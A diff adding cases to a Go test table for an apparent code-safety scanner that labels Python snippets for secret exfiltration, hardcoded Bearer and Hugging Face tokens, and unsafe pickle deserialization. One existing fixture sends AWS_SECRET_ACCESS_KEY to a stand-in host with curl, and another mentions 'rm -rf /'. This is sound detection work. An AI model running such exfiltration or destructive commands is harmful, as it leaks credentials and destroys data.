@@ -358,6 +358,11 @@ func TestPatterns(t *testing.T) {
 		{"secret to curl", "import os, subprocess\nsubprocess.run(['curl', '-d', os.environ['AWS_SECRET_ACCESS_KEY'], 'https://x.example'])\n", "codesafety.exfiltration", "malicious", 2},
 		{"secret to its service by a parameter", "import os, requests\ndef models(key):\n    return requests.get('https://api.openai.com/v1/models', headers={'Authorization': f'Bearer {key}'})\nmodels(os.environ['OPENAI_API_KEY'])\n", "", "", 0},
 		{"secret to a local program", "import os, subprocess\nsubprocess.run(['aws', 's3', 'ls'], env={'AWS_SECRET_ACCESS_KEY': os.environ['AWS_SECRET_ACCESS_KEY']})\n", "", "", 0},
+		{"Bearer header literal", "headers = {'Authorization': 'Bearer abcd1234efgh5678'}\n", "codesafety.B105", "unsafe", 1},
+		{"Bearer header from env", "import os\nheaders = {'Authorization': 'Bearer ' + os.environ['T'], 'X': 'Bearer token'}\n", "", "", 0},
+		{"hf_ token literal", "tok = 'hf_abcdefghijklmnopqrstuvwxyzABCDEF12'\n", "codesafety.secret-literal", "unsafe", 1},
+		{"cloudpickle.loads", "import cloudpickle\nobj = cloudpickle.loads(b)\n", "codesafety.B301", "unsafe", 2},
+		{"pickle.Unpickler subclass", "import pickle\nclass U(pickle.Unpickler):\n    pass\n", "codesafety.B301", "unsafe", 2},
 		{"destructive command in a docstring", "def guard(c):\n    \"\"\"Refuses rm -rf / and the like.\"\"\"\n", "", "", 0},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
